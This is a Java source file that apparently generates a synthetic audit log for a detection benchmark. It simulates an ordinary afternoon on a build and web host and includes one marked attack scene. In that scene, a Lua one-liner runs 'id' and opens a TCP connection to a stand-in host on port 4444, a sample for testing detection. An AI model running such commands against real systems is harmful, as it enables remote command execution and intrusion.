package perilune.bench;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * Invents the seed that {@link ReplayLog} repeats: an afternoon of a build and web host in three
 * seconds. Somebody logs in by ssh, looks around and builds; cron rotates; a web server answers; a
 * package manager and an editor run Lua as they do every day.
 *
 * <p>One scene is marked as rare: Lua code on a command line that starts programs and connects. It
 * gives findings, and a host on which every other process is an attack would measure printing.
 *
 * <pre>{@code
 * java -cp ... perilune.bench.SeedLog bench/src/main/resources/perilune/bench/seed.log
 * }</pre>
 */
public final class SeedLog {

  private static final long START_MILLIS = 1_790_000_000_123L;
  private static final long FIRST_SERIAL = 50_001;
  private static final long MIRA = 1000;

  private final AuditHost host = new AuditHost(START_MILLIS, FIRST_SERIAL);
  private int lastPid = 2_000;

  private SeedLog() {}

  /** Writes the seed to the path given. */
  public static void main(String[] arguments) throws IOException {
    if (arguments.length != 1) {
      System.err.println("usage: SeedLog OUT");
      System.exit(2);
    }
    Files.writeString(Path.of(arguments[0]), text(), StandardCharsets.UTF_8);
  }

  /** Gives the seed. */
  static String text() {
    var seed = new SeedLog();
    Actor session = seed.sshSession();
    Actor shell = seed.shell(session);
    seed.lookAround(shell);
    seed.build(shell);
    seed.everydayLua(shell);
    seed.cron();
    seed.webServer();
    seed.host.comment(ReplayTemplate.RARE + "50");
    seed.attack(shell);
    seed.host.comment(ReplayTemplate.ALWAYS);
    seed.host.exit(shell, 0);
    seed.host.exit(session, 0);
    return seed.host.log();
  }

  private Actor sshSession() {
    Actor daemon = Actor.service(1_990, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]");
    Actor session = host.fork(daemon, ++lastPid);
    session = host.exec(session, "/usr/sbin/sshd", "/usr/sbin/sshd", "-D", "-R");
    host.open(session, "/etc/passwd");
    host.message(session, "USER_AUTH", "op=PAM:authentication grantors=pam_unix acct=\"mira\"");
    session = host.login(session, MIRA, 7);
    host.message(session, "USER_START", "op=PAM:session_open grantors=pam_unix acct=\"mira\"");
    host.message(session, "USER_LOGIN", "op=login id=1000");
    return session;
  }

  private Actor shell(Actor session) {
    Actor shell = host.fork(session, ++lastPid).at("pts0");
    return host.exec(shell, "/usr/bin/bash", "-bash");
  }

  /** Runs a program from fork to exit. */
  private Actor run(Actor parent, String path, String... arguments) {
    Actor child = host.exec(host.fork(parent, ++lastPid), path, arguments);
    host.exit(child, 0);
    return child;
  }

  private void lookAround(Actor shell) {
    run(shell, "/usr/bin/ls", "ls", "--color=auto", "-la", "src");
    run(shell, "/usr/bin/git", "git", "status", "--short");
    Actor grep = host.exec(host.fork(shell, ++lastPid), "/usr/bin/grep", "grep", "-rn", "open (x)");
    host.open(grep, "/home/mira/work/src/main.c");
    host.exit(grep, 1);
    Actor fetch = host.fork(shell, ++lastPid);
    fetch = host.exec(fetch, "/usr/bin/curl", "curl", "-sSfO", "https://pkg.example/list.json");
    host.connect(fetch, "192.0.2.53", 53);
    host.connect(fetch, "203.0.113.80", 443);
    host.create(fetch, "/home/mira/work/list.json");
    host.exit(fetch, 0);
  }

  private void build(Actor shell) {
    Actor make = host.exec(host.fork(shell, ++lastPid), "/usr/bin/make", "make", "-j2", "all");
    for (String unit : new String[] {"main", "table"}) {
      Actor sh = host.fork(make, ++lastPid);
      String line = "cc -O2 -c -o build/" + unit + ".o src/" + unit + ".c";
      sh = host.exec(sh, "/usr/bin/dash", "/bin/sh", "-c", line);
      Actor driver = host.fork(sh, ++lastPid);
      driver =
          host.exec(driver, "/usr/bin/x86_64-linux-gnu-gcc-14", "cc", "-O2", "-c", unit + ".c");
      host.create(driver, "/tmp/cc" + unit + ".s");
      run(driver, "/usr/libexec/gcc/x86_64-linux-gnu/14/cc1", "cc1", "-quiet", "-O2", unit + ".c");
      run(driver, "/usr/bin/x86_64-linux-gnu-as", "as", "--64", "-o", "build/" + unit + ".o");
      host.exit(driver, 0);
      host.exit(sh, 0);
    }
    host.exit(make, 0);
  }

  private void everydayLua(Actor shell) {
    Actor rocks = host.fork(shell, ++lastPid);
    rocks =
        host.exec(rocks, "/usr/bin/lua5.4", "lua5.4", "/usr/bin/luarocks", "list", "--porcelain");
    host.open(rocks, "/usr/share/lua/5.4/luarocks/loader.lua");
    host.open(rocks, "/home/mira/.luarocks/config-5.4.lua");
    Actor sh = host.exec(host.fork(rocks, ++lastPid), "/usr/bin/dash", "sh", "-c", "uname -m");
    run(sh, "/usr/bin/uname", "uname", "-m");
    host.exit(sh, 0);
    host.exit(rocks, 0);
    Actor editor = host.exec(host.fork(shell, ++lastPid), "/usr/bin/nvim", "nvim", "src/main.c");
    host.open(editor, "/home/mira/.config/nvim/init.lua");
    host.create(editor, "/home/mira/work/src/.main.c.swp");
    host.exit(editor, 0);
  }

  private void cron() {
    Actor daemon = Actor.service(1_991, "/usr/sbin/cron", "/usr/sbin/cron", "-f");
    Actor job = host.login(host.fork(daemon, ++lastPid), 0, 8);
    job = host.exec(job, "/usr/bin/dash", "/bin/sh", "-c", "test -x /usr/sbin/rotate && rotate -q");
    run(job, "/usr/sbin/rotate", "rotate", "-q", "/etc/rotate.conf");
    host.exit(job, 0);
  }

  private void webServer() {
    Actor server = Actor.service(1_992, "/usr/sbin/nginx", "nginx: worker process");
    for (int i = 0; i < 6; i++) {
      host.open(server, "/srv/www/page" + i + ".html");
      host.connect(server, "127.0.0.1", 9_000);
    }
  }

  private void attack(Actor shell) {
    Actor lua = host.fork(shell, ++lastPid);
    String code =
        "os.execute('id') local s = require('socket').tcp() s:connect('203.0.113.9', 4444)";
    lua = host.exec(lua, "/usr/bin/lua5.4", "lua5.4", "-e", code);
    Actor sh = host.exec(host.fork(lua, ++lastPid), "/usr/bin/dash", "sh", "-c", "id");
    run(sh, "/usr/bin/id", "id");
    host.exit(sh, 0);
    host.connect(lua, "203.0.113.9", 4_444);
    host.exit(lua, 0);
  }
}
